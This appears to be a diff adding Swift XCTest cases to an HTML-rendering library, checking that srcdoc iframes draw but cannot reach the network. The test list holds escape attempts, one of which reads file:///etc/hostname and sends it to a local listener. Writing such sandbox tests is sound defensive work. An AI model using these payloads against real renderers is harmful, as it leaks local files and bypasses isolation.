@@ -44,6 +44,54 @@ final class PageScriptTests: XCTestCase {
         XCTAssertEqual(image.warnings, [DrawingWarning(.deadline, "the ready signal")])
     }
 
+    /// Where they are off, WebKit drops the attribute (`IncompleteTests`).
+    func testADocumentInAnAttributeIsDrawn() throws {
+        let frame =
+            "<iframe srcdoc=\\\"<body style='margin:0;background:red'>\\\" style='display:block;border:0;height:9px'></iframe>"
+        let image = try draw(scripted("div.innerHTML=\"\(frame)\""))
+        XCTAssertEqual(image.pixel(5, 5), .red)
+        XCTAssertEqual(image.warnings, [])
+        // Nor is a frame without any document one that lacks something.
+        XCTAssertEqual(try draw(scripted("div.append(document.createElement('iframe'))")).warnings, [])
+    }
+
+    /// It is the page's, and no way out for it.
+    func testADocumentInAnAttributeReachesNothing() throws {
+        let listener = Listener()
+        let url = "http://127.0.0.1:\(listener.port)/x"
+        let inner = [
+            "<img src='\(url)'>", "<link rel=stylesheet href='\(url)'>", "<script src='\(url)'></script>",
+            "<script>fetch('\(url)')</script>",
+            "<script>new WebSocket('\(url.replacing("http", with: "ws"))')</script>",
+            "<script>location='\(url)'</script>", "<script>top.location='\(url)'</script>",
+            "<script>open('\(url)')</script>", "<meta http-equiv=refresh content='0;url=\(url)'>",
+            "<iframe src='\(url)'></iframe>", "<iframe srcdoc=&quot;<img src='\(url)'>&quot;></iframe>",
+            "<base href='\(url)'><img src=a.png>",
+            "<form action='\(url)'></form><script>document.forms[0].submit()</script>",
+            "<script>fetch('file:///etc/hostname').then(r=>r.text()).then(t=>fetch('\(url)?'+t))</script>",
+        ]
+        for document in inner {
+            var snippet = page("<p>text</p><iframe srcdoc=\"\(document.replacing("\"", with: "&quot;"))\"></iframe>")
+            snippet.runsScripts = true
+            snippet.timeout = 1
+            let image = try draw(snippet)
+            XCTAssertEqual(listener.connections(), 0, document)
+            XCTAssertGreaterThan(image.size.height, 10, document)
+        }
+        // A file of the base folder is the frame's, too.
+        let frame = "<body style='margin:0'><img src=a.svg style='display:block'>"
+        var snippet = page(
+            "<iframe srcdoc=\"\(frame)\" style='display:block;border:0;height:9px'></iframe>",
+            base: MemoryFolder(text: [
+                "a.svg":
+                    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><path fill='red' d='M0 0h9v9H0z'/></svg>"
+            ]))
+        snippet.runsScripts = true
+        XCTAssertEqual(try draw(snippet).pixel(5, 5), .red)
+        _ = try draw("<p>text")
+        XCTAssertEqual(listener.connections(), 0)
+    }
+
     func testFramesAndObserversComeInAViewThatIsNeverShown() throws {
         for script in [
             "requestAnimationFrame(()=>requestAnimationFrame(done))", "new ResizeObserver(done).observe(div)",
